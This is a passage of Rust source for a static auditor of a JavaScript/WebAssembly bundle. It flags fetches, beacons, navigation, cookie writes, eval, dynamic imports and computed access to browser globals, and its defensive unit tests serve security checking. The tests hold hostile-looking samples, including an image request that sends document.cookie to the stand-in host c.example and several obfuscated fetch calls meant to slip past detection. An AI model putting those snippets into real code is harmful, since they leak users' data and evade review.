                            .is_some_and(|xs| xs.iter().all(|x| self.model_derived(x, d + 1)))
                    })
            }
            _ => false,
        }
    }

    /// `document.baseURI`, `location.href`, `import.meta.url`: a base that does not move a
    /// URL off the page's origin unless the URL itself is absolute.
    fn is_page_base(&self, b: &Expression<'a>) -> bool {
        if Self::is_import_meta_url(b) {
            return true;
        }
        let v = self.js.eval(b);
        !v.is_empty()
            && v.iter().all(|x| match x {
                Val::Global(p) => {
                    matches!(
                        p.last().map(String::as_str),
                        Some("baseURI" | "href" | "origin")
                    )
                }
                _ => false,
            })
            || matches!(inner(b), Expression::StaticMemberExpression(m) if m.property.name == "baseURI")
    }

    /// A relative reference that cannot leave the base's origin: constants with no scheme
    /// and no `//host`, or a template / concatenation that starts with one.
    fn relative(&self, a: &Expression<'a>) -> bool {
        let ok = |s: &str| {
            !s.starts_with("//")
                && !s.starts_with('\\')
                && !s.starts_with("/\\")
                && !s.split('/').next().unwrap_or("").contains(':')
        };
        if let Some(s) = self.js.strings(a) {
            return s.iter().all(|x| ok(x));
        }
        match inner(a) {
            Expression::TemplateLiteral(t) => t.quasis.first().is_some_and(|q| {
                let s = q.value.raw.as_str();
                !s.is_empty() && !s.starts_with('/') && ok(s) && !s.contains(':')
            }),
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                // `'shard-' + k + '.bin'`: what counts is the leftmost part.
                if matches!(inner(&b.left), Expression::BinaryExpression(l) if l.operator == BinaryOperator::Addition)
                {
                    return self.relative(&b.left);
                }
                self.js.strings(&b.left).is_some_and(|s| {
                    s.iter()
                        .all(|x| !x.is_empty() && !x.starts_with('/') && ok(x) && !x.contains(':'))
                })
            }
            _ => false,
        }
    }

    /// `x.dataset`, or a binding of one (`const ds = (s && s.dataset) || {}`).
    fn is_dataset(&self, e: &Expression<'a>, d: u32) -> bool {
        if d > 10 {
            return false;
        }
        match inner(e) {
            Expression::StaticMemberExpression(m) => m.property.name == "dataset",
            Expression::LogicalExpression(l) => match l.operator {
                LogicalOperator::And => self.is_dataset(&l.right, d + 1),
                _ => {
                    (self.is_dataset(&l.left, d + 1) || Self::empty_object(&l.left))
                        && (self.is_dataset(&l.right, d + 1) || Self::empty_object(&l.right))
                        && !(Self::empty_object(&l.left) && Self::empty_object(&l.right))
                }
            },
            Expression::ConditionalExpression(c) => {
                self.is_dataset(&c.consequent, d + 1) && self.is_dataset(&c.alternate, d + 1)
            }
            Expression::Identifier(id) => {
                let Some(sym) = self.js.symbol(id) else {
                    return false;
                };
                let writes = self.js.writes.get(&sym).cloned().unwrap_or_default();
                !writes.is_empty()
                    && writes.iter().all(|w| {
                        self.js
                            .write_exprs(w, 0)
                            .is_some_and(|xs| xs.iter().all(|x| self.is_dataset(x, d + 1)))
                    })
            }
            _ => false,
        }
    }

    fn empty_object(e: &Expression) -> bool {
        matches!(inner(e), Expression::ObjectExpression(o) if o.properties.is_empty())
    }

    /// `target = value` where the target is a member: the property's name decides.
    fn judge_set(
        &mut self,
        obj: Vals,
        key: Option<BTreeSet<String>>,
        value: &Expression<'a>,
        span: Span,
        target_text: &str,
        target_obj: Option<&Expression<'a>>,
    ) {
        // `new Image().src = …` is reported as `new Image()`.
        if let Some(Expression::NewExpression(n)) = target_obj.map(inner) {
            if matches!(inner(&n.callee), Expression::Identifier(id) if matches!(id.name.as_str(), "Image" | "Audio"))
            {
                return;
            }
        }
        let Some(keys) = key else {
            if self.import_mode() {
                let s = self.site(span);
                self.generic.reflect_set.push(s);
            } else if globals(&obj).any(|p| dangerous(p)) {
                self.violate(
                    "computed property write",
                    span,
                    format!("{target_text} = …: a property of a browser global named by data"),
                );
            } else {
                // A property named by data: judged by the names the file holds.
                let held: Vec<String> = self
                    .strings
                    .iter()
                    .filter(|s| WRITE_DANGER.contains(&s.as_str()))
                    .cloned()
                    .collect();
                for h in held {
                    self.violate(
                        &format!("[{h:?}] = …"),
                        span,
                        format!("{target_text} = …: a property named by data, and the file holds this name"),
                    );
                }
            }
            return;
        };
        let objs: Vec<String> = globals(&obj).filter_map(|p| p.last().cloned()).collect();
        let on_window = globals(&obj).any(|p| p.is_empty()) || objs.iter().any(|o| o == "location");
        for k in keys {
            let k = k.as_str();
            self.reach(k, Self::obj_name(&obj).as_deref(), span);
            match k {
                "location" => self.violate("location (write)", span, "navigates to a URL"),
                "href" | "pathname" | "search" | "hash" | "host" | "hostname" | "port"
                | "protocol"
                    if on_window =>
                {
                    self.violate(&format!("location.{k}"), span, "navigates to a URL")
                }
                "src" | "href" => self.url_write(k, value, span),
                "cookie" => self.violate(
                    "document.cookie (write)",
                    span,
                    "cookies are sent to the server with every request",
                ),
                "cssText" => self.css_value(value, span),
                // On any object: a style declaration is reached from any element.
                k if CSS_URL_PROPS.contains(&k) => self.css_value(value, span),
                k if URL_ATTRS.contains(&k) && k != "data" => self.violate(
                    &format!(".{k} ="),
                    span,
                    "sets a URL the browser will request",
                ),
                _ => {}
            }
        }
    }

    /// `window[k]` with `k` one of several constants (not all harmless): a name chosen at
    /// run time, reported as one violation rather than judged per name.
    fn computed_choice(&self, obj: &Vals, keys: &BTreeSet<String>, key: &Expression<'a>) -> bool {
        globals(obj).any(|p| dangerous(p))
            && !self.import_mode()
            && (keys.len() != 1 || !matches!(inner(key), Expression::StringLiteral(_)))
            && !keys.iter().all(|k| harmless_global(k))
    }

    /// The constants a property key may be: as `strings`, or as narrowed by a test.
    fn key_strings(&self, k: &Expression<'a>) -> Option<BTreeSet<String>> {
        if let Expression::Identifier(id) = inner(k) {
            if let Some(sym) = self.js.symbol(id) {
                if let Some((_, set)) = self.narrow.iter().rev().find(|(s, _)| *s == sym) {
                    return Some(set.clone());
                }
            }
        }
        self.js.strings(k)
    }

    /// `x === 'a' || x === 'b'`: the symbol and the constants it equals when the test holds.
    fn equalities(
        &self,
        test: &Expression<'a>,
    ) -> Option<(oxc_semantic::SymbolId, BTreeSet<String>)> {
        match inner(test) {
            Expression::LogicalExpression(l) if l.operator == LogicalOperator::Or => {
                let (a, mut x) = self.equalities(&l.left)?;
                let (b, y) = self.equalities(&l.right)?;
                (a == b).then(|| {
                    x.extend(y);
                    (a, x)
                })
            }
            Expression::BinaryExpression(b)
                if matches!(
                    b.operator,
                    BinaryOperator::StrictEquality | BinaryOperator::Equality
                ) =>
            {
                let (id, lit) = match (inner(&b.left), inner(&b.right)) {
                    (Expression::Identifier(id), Expression::StringLiteral(s))
                    | (Expression::StringLiteral(s), Expression::Identifier(id)) => (id, s),
                    _ => return None,
                };
                Some((self.js.symbol(id)?, BTreeSet::from([lit.value.to_string()])))
            }
            _ => None,
        }
    }

    fn member_keys(&self, m: &MemberExpression<'a>) -> (Vals, Option<BTreeSet<String>>) {
        if let MemberExpression::ComputedMemberExpression(c) = m {
            if self.js.numeric(&c.expression, 0) {
                return (self.js.eval(&c.object), Some(BTreeSet::new()));
            }
            return (self.js.eval(&c.object), self.key_strings(&c.expression));
        }
        match m {
            MemberExpression::StaticMemberExpression(s) => (
                self.js.eval(&s.object),
                Some(BTreeSet::from([s.property.name.to_string()])),
            ),
            MemberExpression::ComputedMemberExpression(c) => {
                (self.js.eval(&c.object), self.js.strings(&c.expression))
            }
            MemberExpression::PrivateFieldExpression(p) => {
                (self.js.eval(&p.object), Some(BTreeSet::new()))
            }
        }
    }

    fn pattern_keys(&mut self, p: &BindingPattern<'a>) {
        match p {
            BindingPattern::ObjectPattern(o) => {
                for prop in &o.properties {
                    if let Some(k) = prop.key.static_name() {
                        if !prop.computed {
                            self.reach(&k, None, prop.span);
                        }
                    }
                    self.pattern_keys(&prop.value);
                }
            }
            BindingPattern::ArrayPattern(a) => {
                for el in a.elements.iter().flatten() {
                    self.pattern_keys(el);
                }
            }
            BindingPattern::AssignmentPattern(a) => self.pattern_keys(&a.left),
            BindingPattern::BindingIdentifier(_) => {}
        }
    }
}

impl<'a> Visit<'a> for Checker<'_, 'a> {
    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
        if self.js.symbol(it).is_none() {
            let name = it.name.as_str();
            if GLOBAL_NAMES.contains(&name) && self.import_mode() {
                let s = self.site(it.span);
                self.generic.global.push(s);
            }
            self.reach(name, None, it.span);
        }
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        let obj = self.js.eval(&it.object);
        self.reach(
            it.property.name.as_str(),
            Self::obj_name(&obj).as_deref(),
            it.property.span,
        );
        walk::walk_static_member_expression(self, it);
    }

    fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
        let obj = self.js.eval(&it.object);
        match self.js.strings(&it.expression) {
            Some(keys) => {
                let listed: Vec<String> = keys.iter().cloned().collect();
                if self.computed_choice(&obj, &keys, &it.expression) {
                    self.violate(
                        "computed property of a global",
                        it.span,
                        format!(
                            "{}: a name chosen at run time among {listed:?} can reach any browser API",
                            self.js.text(it.span)
                        ),
                    );
                } else {
                    for k in &listed {
                        self.reach(k, Self::obj_name(&obj).as_deref(), it.span);
                    }
                }
            }
            None => {
                let dangerous_obj = globals(&obj).any(|p| dangerous(p));
                if self.import_mode() {
                    if is_global(&obj) || obj.contains(&Val::Other) {
                        let s = self.site(it.span);
                        self.generic.reflect_get.push(s);
                    }
                } else if dangerous_obj {
                    self.violate(
                        "computed property of a global",
                        it.span,
                        format!(
                            "{}: a name computed at run time can reach any browser API",
                            self.js.text(it.span)
                        ),
                    );
                }
            }
        }
        walk::walk_computed_member_expression(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let it: &'a CallExpression<'a> = unsafe { &*(it as *const _) };
        self.judge_call(&it.callee, &it.arguments, it.span, false);
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        let it: &'a NewExpression<'a> = unsafe { &*(it as *const _) };
        self.judge_call(&it.callee, &it.arguments, it.span, true);
        walk::walk_new_expression(self, it);
    }

    fn visit_tagged_template_expression(&mut self, it: &TaggedTemplateExpression<'a>) {
        let v = self.js.eval(&it.tag);
        for p in globals(&v) {
            if dangerous(p) {
                self.violate(
                    &format!("{} (tagged template)", p.join(".")),
                    it.span,
                    "a browser API called through a template tag",
                );
                break;
            }
        }
        for e in &it.quasi.expressions {
            self.escape(e, "passed to a template tag");
        }
        walk::walk_tagged_template_expression(self, it);
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        let site = self.site(it.span);
        self.report.add_use(Group::Network, "import()", &site);
        let specs = if self.import_mode() {
            None
        } else {
            match inner(&it.source) {
                Expression::StringLiteral(s) => Some(s.value.to_string()),
                Expression::TemplateLiteral(t) if t.expressions.is_empty() => {
                    t.quasis.first().map(|q| q.value.raw.to_string())
                }
                _ => None,
            }
        };
        match specs {
            Some(spec) => match self.own_file(&spec) {
                Some(ChannelKind::OwnModule) => {
                    self.channel(ChannelKind::OwnModule, it.span, format!("import('{spec}')"))
                }
                _ => self.violate(
                    "import()",
                    it.span,
                    format!("import('{spec}'): not a file of this bundle"),
                ),
            },
            None => self.violate(
                "import()",
                it.span,
                format!("dynamic import of {}", self.js.text(it.source.span())),
            ),
        }
        walk::walk_import_expression(self, it);
    }

    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        self.static_import(&it.source.value, it.span);
    }

    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
        self.static_import(&it.source.value, it.span);
    }

    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
        self.static_import(&it.source.value, it.span);
    }

    fn visit_export_declaration(&mut self, it: &ExportDeclaration<'a>) {
        if let Declaration::VariableDeclaration(d) = &it.declaration {
            for decl in &d.declarations {
                if let Some(init) = &decl.init {
                    self.escape(init, "exported");
                }
            }
        }
        walk::walk_export_declaration(self, it);
    }

    fn visit_export_named_declaration(&mut self, it: &ExportNamedDeclaration<'a>) {
        for s in &it.specifiers {
            if let ModuleExportName::IdentifierReference(id) = &s.local {
                if let Some(sym) = self.js.symbol(id) {
                    let v = self.js.symbol_vals(sym, 0);
                    if globals(&v).any(|p| dangerous(p)) {
                        self.violate(
                            "export of a browser API",
                            s.span,
                            format!("{}: exported, so any importer can use it", id.name),
                        );
                    }
                }
            }
        }
        walk::walk_export_named_declaration(self, it);
    }

    fn visit_export_default_declaration(&mut self, it: &ExportDefaultDeclaration<'a>) {
        if let Some(e) = it.declaration.as_expression() {
            self.escape(e, "exported");
        }
        walk::walk_export_default_declaration(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        let it: &'a AssignmentExpression<'a> = unsafe { &*(it as *const _) };
        match &it.left {
            AssignmentTarget::AssignmentTargetIdentifier(id) => {
                if self.js.symbol(id).is_none() {
                    let name = id.name.as_str();
                    if name == "location" {
                        self.violate("location (write)", it.span, "navigates to a URL");
                    } else {
                        // A global written by name (`fetch = …`, `onload = …`): the value
                        // leaves the audit's view.
                        self.escape(&it.right, "stored in a global");
                        self.reach(name, None, id.span);
                    }
                }
            }
            t => {
                if let Some(m) = t.as_member_expression() {
                    let (obj, keys) = self.member_keys(m);
                    let text = self.js.text(m.span());
                    self.judge_set(obj, keys, &it.right, it.span, &text, Some(m.object()));
                    self.escape(&it.right, "stored in an object");
                } else if it.operator == AssignmentOperator::Assign {
                    // Destructuring assignment: keys reached; values followed in js.rs.
                    if let AssignmentTarget::ObjectAssignmentTarget(o) = t {
                        for p in &o.properties {
                            let (k, span) = match p {
                                AssignmentTargetProperty::AssignmentTargetPropertyIdentifier(p) => {
                                    (Some(p.binding.name.to_string()), p.span)
                                }
                                AssignmentTargetProperty::AssignmentTargetPropertyProperty(p) => {
                                    (p.name.static_name().map(|s| s.to_string()), p.span)
                                }
                            };
                            if let Some(k) = k {
                                self.reach(&k, None, span);
                            }
                        }
                    }
                }
            }
        }
        // Walk the right side and the target's object, not the target's name again.
        match &it.left {
            AssignmentTarget::AssignmentTargetIdentifier(_) => {}
            t => {
                if let Some(m) = t.as_member_expression() {
                    self.visit_expression(m.object());
                    if let MemberExpression::ComputedMemberExpression(c) = m {
                        self.visit_expression(&c.expression);
                    }
                } else {
                    self.visit_assignment_target(t);
                }
            }
        }
        self.visit_expression(&it.right);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        self.pattern_keys(&it.id);
        walk::walk_variable_declarator(self, it);
    }

    fn visit_formal_parameter(&mut self, it: &FormalParameter<'a>) {
        self.pattern_keys(&it.pattern);
        walk::walk_formal_parameter(self, it);
    }

    fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
        for el in &it.elements {
            match el {
                ArrayExpressionElement::SpreadElement(s) => self.escape(&s.argument, "in an array"),
                el => {
                    if let Some(e) = el.as_expression() {
                        self.escape(e, "in an array");
                    }
                }
            }
        }
        walk::walk_array_expression(self, it);
    }

    fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
        if self.skip_entries && !it.computed {
            if let (Some(k), Expression::FunctionExpression(_)) = (it.key.static_name(), &it.value)
            {
                if super::js::is_entry_name(&k) {
                    return; // reached only through the Wasm import of that name
                }
            }
        }
        if !it.method && !matches!(it.kind, PropertyKind::Get | PropertyKind::Set) {
            self.escape(&it.value, "stored in an object");
        }
        if let Some(k) = it.key.static_name() {
            if !it.computed {
                self.list(&k, None, it.key.span());
            }
        }
        walk::walk_object_property(self, it);
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        if let Some(a) = &it.argument {
            if self.import_mode() {
                // The glue returns values to the Wasm: a global handed over is generic.
                let v = self.js.eval(a);
                if globals(&v).any(|p| p.is_empty()) {
                    let s = self.site(a.span());
                    self.generic.global.push(s);
                }
                // Any other powerful object handed to the Wasm (a location, a document):
                // the Wasm can use it only through its imports, which are judged; with
                // name-generic access it counts as a global.
                if globals(&v).any(|p| !p.is_empty() && dangerous(p)) {
                    let s = self.site(a.span());
                    self.generic.global.push(s);
                }
            } else {
                self.escape(a, "returned");
            }
        }
        walk::walk_return_statement(self, it);
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        if let Some(e) = it.body.as_expression() {
            self.escape(e, "returned");
        }
        walk::walk_arrow_function_expression(self, it);
    }

    fn visit_yield_expression(&mut self, it: &YieldExpression<'a>) {
        if let Some(a) = &it.argument {
            self.escape(a, "yielded");
        }
        walk::walk_yield_expression(self, it);
    }

    fn visit_throw_statement(&mut self, it: &ThrowStatement<'a>) {
        self.escape(&it.argument, "thrown");
        walk::walk_throw_statement(self, it);
    }

    fn visit_if_statement(&mut self, it: &IfStatement<'a>) {
        self.visit_expression(&it.test);
        let n = self.equalities(&it.test);
        let pushed = n.is_some();
        if let Some(n) = n {
            self.narrow.push(n);
        }
        self.visit_statement(&it.consequent);
        if pushed {
            self.narrow.pop();
        }
        if let Some(alt) = &it.alternate {
            self.visit_statement(alt);
        }
    }

    fn visit_with_statement(&mut self, it: &WithStatement<'a>) {
        self.violate(
            "with",
            it.span,
            "a with statement makes every name in its body a possible property of an object",
        );
        walk::walk_with_statement(self, it);
    }

    fn visit_property_definition(&mut self, it: &PropertyDefinition<'a>) {
        if let Some(v) = &it.value {
            self.escape(v, "stored in a class field");
        }
        if let Some(k) = it.key.static_name() {
            self.list(&k, None, it.key.span());
        }
        walk::walk_property_definition(self, it);
    }

    fn visit_method_definition(&mut self, it: &MethodDefinition<'a>) {
        if let Some(k) = it.key.static_name() {
            self.list(&k, None, it.key.span());
        }
        walk::walk_method_definition(self, it);
    }
}

impl Checker<'_, '_> {
    /// `import … from 'x'`, `import 'x'`, `export … from 'x'`: files of the bundle only.
    fn static_import(&mut self, spec: &str, span: Span) {
        match self.own_file(spec) {
            Some(ChannelKind::OwnModule) => self.channel(
                ChannelKind::OwnModule,
                span,
                format!("import from '{spec}'"),
            ),
            _ => self.violate(
                "import",
                span,
                format!("module '{spec}' is not a file of this bundle"),
            ),
        }
    }
}

pub fn check_attr(name: &str, site: &Site, report: &mut Report) {
    let l = name.to_ascii_lowercase();
    if is_danger_attr(&l) {
        report.violate(
            &format!("setAttribute('{name}')"),
            site,
            "an attribute that requests a URL or runs code",
        );
    } else if l == "src" {
        report.channel(ChannelKind::CatalogImage, site, "setAttribute('src')");
    } else if l == "href" {
        report.channel(ChannelKind::Link, site, "setAttribute('href')");
    }
}

pub fn check_tag(tag: &str, site: &Site, report: &mut Report) {
    let l = tag.to_ascii_lowercase();
    if FETCHING_TAGS.contains(&l.as_str()) {
        report.violate(
            &format!("createElement('{tag}')"),
            site,
            "an element that loads or submits a URL",
        );
    } else if l == "img" {
        report.channel(ChannelKind::CatalogImage, site, "createElement('img')");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oxc_allocator::Allocator;

    /// The violations (API names) and channels of `code` as the top level of `attune.js`,
    /// in a bundle of `attune.js`, `pkg/x.js` and `pkg/x_bg.wasm`.
    fn judge(code: &str, mode: Mode) -> (Vec<String>, Vec<ChannelKind>, Generic) {
        let arena = Allocator::default();
        let js = super::super::js::parse(&arena, code);
        assert!(js.errors.is_empty(), "{code}: {:?}", js.errors);
        let shipped_js = BTreeSet::from([PathBuf::from("attune.js"), PathBuf::from("pkg/x.js")]);
        let shipped_wasm = BTreeSet::from([PathBuf::from("pkg/x_bg.wasm")]);
        let shipped = Shipped {
            js: &shipped_js,
            wasm: &shipped_wasm,
        };
        let strings: BTreeSet<String> = js.literals().into_iter().map(|(s, _)| s).collect();
        let mut report = Report::default();
        let mut generic = Generic::default();
        let mut c = Checker::new(
            &js,
            "attune.js",
            Path::new("attune.js"),
            &shipped,
            mode,
            &mut report,
            &mut generic,
            &strings,
        );
        match mode {
            Mode::TopLevel => c.visit_program(js.program),
            Mode::Import(_) => {
                c.skip_entries = false;
                c.visit_program(js.program)
            }
        }
        (
            report.violations.iter().map(|v| v.api.clone()).collect(),
            report.channels.iter().map(|c| c.kind).collect(),
            generic,
        )
    }

    fn fails(code: &str, api: &str) {
        let (v, _, _) = judge(code, Mode::TopLevel);
        assert!(
            v.iter().any(|x| x.contains(api)),
            "{code}: want {api:?}, got {v:?}"
        );
    }

    fn passes(code: &str) -> Vec<ChannelKind> {
        let (v, c, _) = judge(code, Mode::TopLevel);
        assert!(v.is_empty(), "{code}: {v:?}");
        c
    }

    #[test]
    fn the_allowed_channels() {
        let d = "const ds = document.querySelector('script[data-model]').dataset;";
        let c = passes(&format!(
            "{d} fetch(new URL(ds.model, document.baseURI), {{ integrity: 'x' }});"
        ));
        assert_eq!(c, [ChannelKind::Model]);
        // Shards under the model's directory; the attribute itself; getAttribute.
        for url in [
            "new URL('shard-1.bin', new URL(ds.model, document.baseURI))",
            "new URL(`shard-${i}.bin`, new URL('.', new URL(ds.model, document.baseURI)))",
            "ds.model",
            "document.currentScript.getAttribute('data-model')",
        ] {
            assert_eq!(
                passes(&format!("{d} let i = 1; fetch({url});")),
                [ChannelKind::Model],
                "{url}"
            );
        }
        assert_eq!(
            passes("fetch(new URL('./pkg/x_bg.wasm', import.meta.url));"),
            [ChannelKind::OwnWasm]
        );
        assert_eq!(passes("import('./pkg/x.js');"), [ChannelKind::OwnModule]);
        assert_eq!(
            passes("import x from './pkg/x.js'; x();"),
            [ChannelKind::OwnModule]
        );
        assert_eq!(
            passes("const a = document.createElement('a'); a.href = '/p';"),
            [ChannelKind::Link]
        );
        assert_eq!(
            passes("a.href = URL.createObjectURL(blob);"),
            [ChannelKind::Link]
        );
        assert_eq!(
            passes("const m = await import('./pkg/x.js'); const w = s && fetch(new URL('./pkg/x_bg.wasm', import.meta.url)); await m.default(w ? { module_or_path: w } : undefined);"),
            [ChannelKind::OwnModule, ChannelKind::OwnWasm]
        );
    }

    #[test]
    fn harmless_code_passes() {
        for code in [
            "if (typeof fetch === 'function') console.log(1);",
            "const w = window; w.localStorage.getItem('attune:v1'); w.addEventListener('x', () => {});",
            "for (const s of ['localStorage', 'sessionStorage']) window[s].removeItem('k');",
            "const el = document.createElement(x ? 'span' : 'div'); el.textContent = 'hi';",
            "function node(tag) { return document.createElement(tag); } node('p'); node('button');",
            "const cfg = {}; if (key === 'perPage' || key === 'perSession') cfg[key] = v;",
            "const h = (id) => String(id.length % 360); el.style.setProperty('--hue', h(id));",
            "const calls = []; calls.push(['track', 1]); for (const [n, a] of calls.splice(0)) widget[n](a);",
            "const f = fetch; if (f instanceof Function) {}",
            "class X extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }); } } customElements.define('x-y', X);",
            "setTimeout(() => console.log(1), 10); setTimeout(tick, 1); function tick() {}",
            "const o = Object.prototype.hasOwnProperty.call(cfg, 'k');",
            "new URL(location.href).searchParams.get('q');",
            "mem[ptr + 1] = 2;",
            // A local that shadows a global is not the global.
            "function f(fetch) { fetch('https://c.example/'); } f(() => 1);",
        ] {
            passes(code);
        }
    }

    #[test]
    fn parsing_is_the_parsers_job() {
        fails(
            ";(function(){var ok=1,s=\"x\";if(ok)/'/.test(s);fetch('https://c.example/a?'+s);})();",
            "fetch",
        );
        fails("f\\u0065tch('https://c.example/');", "fetch");
        fails("window['f\\x65tch']('https://c.example/');", "fetch");
        // Not code: strings, comments, regexes, templates text.
        passes("const s = 'fetch(1)'; // fetch('x')\n/fetch\\(/.test(s); `fetch ${1}`;");
    }

    #[test]
    fn aliases_and_escapes() {
        fails(
            "const w = globalThis; w.fetch('https://c.example/');",
            "fetch",
        );
        fails(
            "const { fetch: f } = self; f('https://c.example/');",
            "fetch",
        );
        fails(
            "let g; g = window; const h = g; h.fetch('https://c.example/');",
            "fetch",
        );
        fails(
            "function send(x) { x('https://c.example/'); } send(fetch);",
            "fetch",
        );
        fails(
            "el.ownerDocument.defaultView.fetch('https://c.example/');",
            "fetch",
        );
        fails(
            "const b = fetch.bind(window); b('https://c.example/');",
            "fetch",
        );
        fails("fetch.call(window, 'https://c.example/');", "fetch.call");
        fails(
            "Reflect.apply(fetch, window, ['https://c.example/']);",
            "passed to a function",
        );
        fails("foo(window);", "the global object");
        fails("const o = { d: document };", "stored in an object");
        fails("export const leak = fetch;", "exported");
        fails("[navigator][0].sendBeacon('/b');", "sendBeacon");
        fails("(0, fetch)('https://c.example/');", "fetch");
        fails("fetch`https://c.example/`;", "tagged template");
    }

    #[test]
    fn computed_names() {
        fails(
            "const k = 'fe' + 'tch'; window[k]('https://c.example/');",
            "computed property of a global",
        );
        fails(
            "const k = 'fe' + 'tch'; const f = window[k]; f('https://c.example/');",
            "fetch",
        );
        fails(
            "window[location.hash]('x');",
            "computed property of a global",
        );
        fails(
            "const n = a ? 'fetch' : 'open'; window[n]('x');",
            "computed property of a global",
        );
        fails("Reflect.get(window, 'fetch')('x');", "Reflect.get");
        fails(
            "const e = document.createElement('a'); e[k] = 'x'; const s = 'href';",
            "[\"href\"] = …",
        );
        fails("obj[k](1); const n = 'open';", "[\"open\"](…)");
    }

    #[test]
    fn string_evaluation() {
        fails("eval('1');", "eval");
        fails("(0, eval)('1');", "eval");
        fails("new Function('return 1')();", "Function constructor");
        fails("setTimeout('go()', 1);", "setTimeout");
        fails("setInterval(code, 1);", "setInterval");
    }

    #[test]
    fn network_apis() {
        for (code, api) in [
            ("new XMLHttpRequest();", "XMLHttpRequest"),
            ("new WebSocket('wss://c.example');", "WebSocket"),
            ("new EventSource('/s');", "EventSource"),
            ("navigator.sendBeacon('/b', 1);", "sendBeacon"),
            ("const { sendBeacon } = navigator;", "sendBeacon"),
            ("new RTCPeerConnection();", "RTCPeerConnection"),
            ("new WebTransport('https://c.example');", "WebTransport"),
            ("new Worker('/w.js');", "Worker"),
            ("new SharedWorker('/w.js');", "SharedWorker"),
            (
                "navigator.serviceWorker.register('/sw.js');",
                "serviceWorker",
            ),
            ("importScripts('/a.js');", "importScripts"),
            ("import('https://c.example/m.js');", "import()"),
            ("import(spec);", "import()"),
            ("import x from 'https://c.example/m.js';", "import"),
            ("window.open('https://c.example');", "window.open"),
            ("location = '/x';", "location (write)"),
            ("location.href = '/x';", "location.href"),
            ("top.location = '/x';", "location (write)"),
            ("window.location.assign('/x');", "location.assign"),
            ("document.querySelector('form').submit();", "form.submit"),
            ("postMessage(1, '*');", "postMessage"),
            ("document.cookie = 'a=1';", "document.cookie"),
            ("new Image().src = '/p.gif';", "new Image()"),
            ("new Audio('/a.mp3');", "new Audio()"),
        ] {
            fails(code, api);
        }
    }

    #[test]
    fn fetches_other_than_the_channels() {
        fails("fetch('https://c.example/');", "fetch");
        fails(
            "fetch(new URL(d.dataset.model, 'https://c.example/'));",
            "fetch",
        );
        fails("fetch(new URL('https://c.example/?' + x, new URL(d.dataset.model, document.baseURI)));", "fetch");
        fails(
            "fetch(d.dataset.model, { method: 'POST', body: x });",
            "fetch",
        );
        fails("fetch(d.dataset.model, opts);", "fetch");
        fails("fetch('./pkg/other.wasm');", "fetch");
        fails(
            "const m = await import('./pkg/x.js'); m.default('https://c.example/x.wasm');",
            "glue init",
        );
    }

    #[test]
    fn elements_attributes_markup_and_css() {
        fails(
            "document.createElement('img').src = 'https://c.example/p?' + document.cookie;",
            "src = …",
        );
        fails("img.setAttribute('src', '/p?' + data);", "src = …");
        fails("a.href = '/p?' + data;", "href = …");
        for tag in [
            "script", "iframe", "link", "form", "object", "embed", "video", "audio", "source",
        ] {
            fails(
                &format!("document.createElement('{tag}');"),
                &format!("createElement('{tag}')"),
            );
        }
        fails(
            "document.createElementNS(ns, 'script');",
            "createElement('script')",
        );
        fails("el.setAttribute('ping', '/p');", "setAttribute('ping')");
        fails(
            "el.setAttribute('onclick', 'x()');",
            "setAttribute('onclick')",
        );
        fails(
            "el.setAttribute(name, v); const s = 'srcset';",
            "setAttribute(\"srcset\", …)",
        );
        fails(
            "el.createElement(t); const s = 'iframe';",
            "createElement(\"iframe\")",
        );
        fails("el.poster = '/p.png';", ".poster =");
        fails("el.srcset = '/a 1x';", ".srcset =");
        fails("el.innerHTML = '<b>';", "innerHTML");
        fails(
            "el.insertAdjacentHTML('beforeend', x);",
            "insertAdjacentHTML",
        );
        fails("document.write('<b>');", "document.write");
        fails("el.style.background = 'url(/x)';", "CSS url(");
        fails(
            "el.style.cssText = 'background:' + 'ur' + 'l(/x)';",
            "CSS url(",
        );
        fails("sheet.replaceSync(location.hash);", "CSS from data");
        fails("el.style.setProperty('background', v);", "CSS from data");
        fails("with (window) { x(); }", "with");
        fails("el.setAttribute('style', data);", "CSS from data");
        fails("sheet.replace(data);", "CSS from data");
        fails(
            "document.createElementNS('http://www.w3.org/2000/svg', 'image');",
            "createElementNS(…, 'image')",
        );
        passes("el.setAttribute('style', 'color:red'); s.replace('a', 'b');");
    }

    #[test]
    fn glue_functions_reached_from_the_wasm_are_generic() {
        let (v, _, g) = judge("function f(arg0, arg1, arg2) { arg0.setAttribute(getStringFromWasm0(arg1, arg2), 'x'); arg0.createElement(getStringFromWasm0(arg1, arg2)); Reflect.get(arg0, arg1); Reflect.set(arg0, arg1, arg2); arg0.call(arg1); const r = typeof window === 'undefined' ? null : window; }", Mode::Import("__wbg_x"));
        assert!(v.is_empty(), "{v:?}");
        assert_eq!(
            (
                g.set_attribute.len(),
                g.create_element.len(),
                g.reflect_get.len(),
                g.reflect_set.len(),
                g.call.len()
            ),
            (1, 1, 1, 1, 1)
        );
        assert!(!g.global.is_empty());
        let (v, _, _) = judge(
            "function f(arg0, arg1, arg2) { return arg0.fetch(getStringFromWasm0(arg1, arg2)); }",
            Mode::Import("__wbg_x"),
        );
        assert_eq!(v, ["fetch"]);
        let (v, _, _) = judge(
            "function f(arg0, arg1) { return arg0.setTimeout(arg1, 1); }",
            Mode::Import("__wbg_x"),
        );
        assert_eq!(v, ["setTimeout"]);
    }
}
